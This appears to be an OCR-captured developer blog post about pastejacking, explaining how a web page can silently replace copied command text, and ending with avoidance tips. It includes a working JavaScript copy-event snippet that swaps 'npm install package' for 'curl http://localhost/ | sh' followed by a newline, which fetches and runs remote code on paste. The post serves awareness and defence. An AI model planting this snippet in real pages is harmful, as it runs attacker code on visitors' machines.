The Dangers of Copy & Paste (Copas)

The Dangers of Copy & Paste (Copas)ibnu gunawan prayogo

Ibnu Gunawan P

Tue, 04 2022, 8:10:00 pm

Table Of Content

The Dangers of Copy & Paste (Copas)

I'm sure fellow developers have at some point copied a line of command from a website. We assume that the text we're copying is legitimate. Yes, or is it? What if the text we copy is replaced with a command that can harm us or contain malicious code?

All a hacker needs is a single line of command that can insert a backdoor or virus, allowing them to remotely control your device. This attack is simple yet effective. Here's a further explanation and how it works.Watch the Video - Simulating the risk of copying and executing code directly in a terminal. For instance, when installing a package using npm and you find a command on a web page, without much thought, most of us simply copy and paste that text into the terminal. Codepen Copy&Paste.

PROBLEM: Another issue here is that the hacker presses enter with the code (\n) after a harmful command, causing the copied command to run automatically.

Example Script Used:

<p id="copy">npm install package</p>

document.getElementById('copy').addEventListener('copy', function(e) { e.clipboardData.setData('text/plain', 'curl http://localhost/ | sh\n'); e.preventDefault(); });

How to Avoid It?• Ensure that the websites you visit are trustworthy and secure. For instance, when looking for documentation or a package, go directly to the official site.
  • As a precaution, don't paste copied text directly into the terminal. Try pasting it into a notepad or another text editor first.
  • In essence, avoid pasting text directly into the terminal.

# Author's Message

Always be cautious and vigilant,because we never know what kind of mischief we might face in the future.That's all I have to offer. I hope it's helpful. Thank you! 😁